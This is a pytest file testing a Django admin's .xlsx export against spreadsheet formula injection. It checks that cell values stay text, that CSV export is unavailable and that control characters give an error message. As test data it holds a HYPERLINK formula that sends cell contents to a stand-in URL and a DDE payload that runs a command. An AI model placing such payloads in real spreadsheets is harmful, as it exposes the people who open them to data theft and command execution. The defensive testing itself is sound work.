"""The django-admin's exports: .xlsx written by the one cell writer (text stays text), no CSV."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from committees.models import Layer, Volunteer
from tests.factories import PersonFactory, UserFactory
from tests.xlsx import assert_no_formula

HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def superuser(db):
    return UserFactory(username="root", is_staff=True, is_superuser=True)


def formats(client, model: str) -> dict[str, str]:
    page = client.get(reverse(f"admin:committees_{model}_export"))
    return {title: value for value, title in page.context["form"].fields["format"].choices if value != ""}


def test_the_volunteer_export_writes_text_as_text_and_dates_as_dates(client, superuser, xs):
    person = PersonFactory(code="P0001", name=HYPERLINK)
    Volunteer.objects.create(
        person=person,
        committee=xs.dg_v1,
        layer=Layer.BACKBONE,
        joined_on=datetime.date(2013, 6, 13),
        exited_on=datetime.date(2020, 1, 1),
        exit_reason=DDE,
    )
    client.force_login(superuser)
    response = client.post(
        reverse("admin:committees_volunteer_export"),
        {"format": formats(client, "volunteer")["xlsx"], "resource": "0", "volunteerresource_exit_reason": "on"}
        | {f"volunteerresource_{f}": "on" for f in ("committee", "person", "layer", "joined_on", "exited_on")},
    )
    assert response.status_code == 200, response.content[:500]
    assert_no_formula(response.content)
    ws = load_workbook(io.BytesIO(response.content)).active
    row = {header.value: cell for header, cell in zip(ws[1], ws[2], strict=True)}
    assert (row["exit_reason"].value, row["exit_reason"].data_type) == (DDE, "s")
    assert row["exit_reason"].quotePrefix
    assert row["joined_on"].is_date and row["joined_on"].value.date() == datetime.date(2013, 6, 13)


@pytest.mark.parametrize("model", ["person", "post", "volunteer", "volunteerteam", "tutoringstation", "pointsrule"])
def test_no_admin_export_offers_csv(client, superuser, model):
    client.force_login(superuser)
    assert sorted(formats(client, model)) == ["json", "xlsx"]


def test_a_control_character_is_a_message_not_a_server_error(client, superuser, db):
    PersonFactory(code="P0001", name="张三", notes="备注\x01")
    client.force_login(superuser)
    response = client.post(
        reverse("admin:committees_person_export"),
        {"format": formats(client, "person")["xlsx"], "resource": "0", "personresource_notes": "on"},
        follow=True,
    )
    assert response.status_code == 200
    assert "导出失败：有单元格含有不可见的控制字符。" in [str(m) for m in response.context["messages"]]
